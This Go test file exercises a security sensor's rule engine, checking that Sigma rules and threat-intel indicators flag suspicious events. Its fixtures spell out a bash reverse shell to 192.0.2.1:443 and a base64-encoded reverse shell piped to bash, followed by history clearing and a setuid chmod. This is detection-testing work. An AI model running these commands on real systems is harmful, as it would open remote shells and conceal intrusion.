package judge_test

import (
	"encoding/json"
	"net/netip"
	"slices"
	"testing"
	"time"

	"github.com/tocsin-ir/tocsin/sensor/detect/intel"
	"github.com/tocsin-ir/tocsin/sensor/detect/rules"
	"github.com/tocsin-ir/tocsin/sensor/detect/sigma"
	"github.com/tocsin-ir/tocsin/sensor/event"
	"github.com/tocsin-ir/tocsin/sensor/judge"
)

var at = time.Date(2026, 11, 23, 3, 4, 0, 0, time.UTC)

func shell() *event.Event {
	return &event.Event{Kind: event.Exec, At: at, Host: "web-3", Process: event.Process{Key: event.Key{PID: 4711}, Exe: "/usr/bin/bash", Comm: "bash", Args: []string{"bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}}, Exec: &event.ExecOf{}}
}

func starter(t testing.TB) []byte {
	files, err := sigma.Read(rules.Files())
	if err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(files)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestEventsAreMarkedWithWhatFoundThem(t *testing.T) {
	j := judge.New(func() time.Time { return at })
	if v := j.Judge(shell()); v.Rule != "" || v.Drop || v.Urgent {
		t.Fatal("before any set has come everything passes", v)
	}
	if err := j.Sigma(starter(t)); err != nil {
		t.Fatal(err)
	}
	e := shell()
	if v := j.Judge(e); v.Rule == "" || !v.Urgent || e.Rule != v.Rule {
		t.Fatal(v, e.Rule)
	}
	quiet := shell()
	quiet.Process.Args = []string{"bash", "nightly.sh"}
	if v := j.Judge(quiet); v.Rule != "" || quiet.Rule != "" {
		t.Fatal(v)
	}
	var b intel.Builder
	if err := b.Add(intel.Indicator{Type: intel.IP, Value: "192.0.2.1", Source: "people", Confidence: 90}); err != nil {
		t.Fatal(err)
	}
	if err := j.Intel(b.Set().Encode(nil)); err != nil {
		t.Fatal(err)
	}
	c := &event.Event{Kind: event.Connect, At: at, Host: "web-3", Net: &event.NetOf{Proto: "tcp", Remote: netip.MustParseAddrPort("192.0.2.1:443")}}
	if v := j.Judge(c); v.Rule != "intel/people" || !v.Urgent {
		t.Fatal(v)
	}
}

// One event can be several things: none of them is lost, and which comes first is no accident.
func TestAnEventHasAllItsRules(t *testing.T) {
	for range 20 {
		j := judge.New(func() time.Time { return at })
		if err := j.Sigma(starter(t)); err != nil {
			t.Fatal(err)
		}
		e := shell()
		e.Process.Args = []string{"bash", "-c", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjEvNDQ0NCAwPiYxCg== | base64 -d | bash; history -c; chmod 4755 x; set +o history"}
		if v := j.Judge(e); v.Rule != "sigma/encoded_reverse_shell" || !slices.Equal(e.Also, []string{"sigma/decoded_and_run", "sigma/history_cleared"}) || len(e.Rules()) != 3 {
			t.Fatal(v, e.Also)
		}
	}
}

// A set that cannot be read leaves the one before in force.
func TestABrokenSetChangesNothing(t *testing.T) {
	j := judge.New(func() time.Time { return at })
	if err := j.Sigma(starter(t)); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"", "{}", `[{"Name":"x","Text":"bm90IHlhbWw6IFs="}]`} {
		if err := j.Sigma([]byte(bad)); err == nil {
			t.Errorf("%q was taken", bad)
		}
	}
	if err := j.Intel([]byte("nonsense")); err == nil {
		t.Error("nonsense was taken for indicators")
	}
	if v := j.Judge(shell()); v.Rule == "" {
		t.Error("the rules are gone")
	}
}
